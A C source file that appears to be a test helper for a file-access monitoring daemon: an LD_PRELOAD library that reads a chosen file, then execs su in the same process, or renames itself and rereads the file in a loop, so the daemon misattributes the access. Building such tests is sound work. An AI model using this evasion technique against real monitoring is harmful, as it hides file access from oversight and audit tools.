/* Loaded (LD_PRELOAD) into a catalogued program a user may run, this
 * makes it read ATTACK_READ once, wait ATTACK_DELAY_US, then run
 * ATTACK_EXEC (a set-user-ID program, su) with ATTACK_ARG as its argument,
 * in the same process: same pid, same start time, another binary and
 * other ids by the time the daemon looks into it. Its standard input is
 * left as it is (a pipe nobody writes keeps su waiting for a password).
 * With ATTACK_EVERY_MS instead, it reads ATTACK_READ that often, for ever:
 * a reader the catalogue knows by its binary, whose command line a look
 * must check; ATTACK_NAME, its comm, tells it apart from others. */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
        const char *file = getenv("ATTACK_READ"), *prog = getenv("ATTACK_EXEC"), *arg = getenv("ATTACK_ARG"),
                   *delay = getenv("ATTACK_DELAY_US");
        char buf[4096];
        int fd;

        if (getenv("ATTACK_NAME"))
                (void) prctl(PR_SET_NAME, getenv("ATTACK_NAME"));
        if (file && getenv("ATTACK_EVERY_MS")) {
                long ms = atol(getenv("ATTACK_EVERY_MS"));
                struct timespec t = { .tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L };

                for (;;) {
                        fd = open(file, O_RDONLY | O_CLOEXEC);
                        if (fd < 0)
                                _exit(1);
                        while (read(fd, buf, sizeof buf) > 0)
                                ;
                        close(fd);
                        nanosleep(&t, NULL);
                }
        }
        if (!file || !prog || !arg)
                return;
        unsetenv("LD_PRELOAD");         /* su would not load it anyway */
        fd = open(file, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                _exit(1);
        while (read(fd, buf, sizeof buf) > 0)
                ;
        close(fd);
        if (delay) {
                long us = atol(delay);
                struct timespec t = { .tv_sec = us / 1000000, .tv_nsec = (us % 1000000) * 1000 };

                nanosleep(&t, NULL);
        }
        execl(prog, "su", arg, (char *) NULL);
        _exit(2);
}
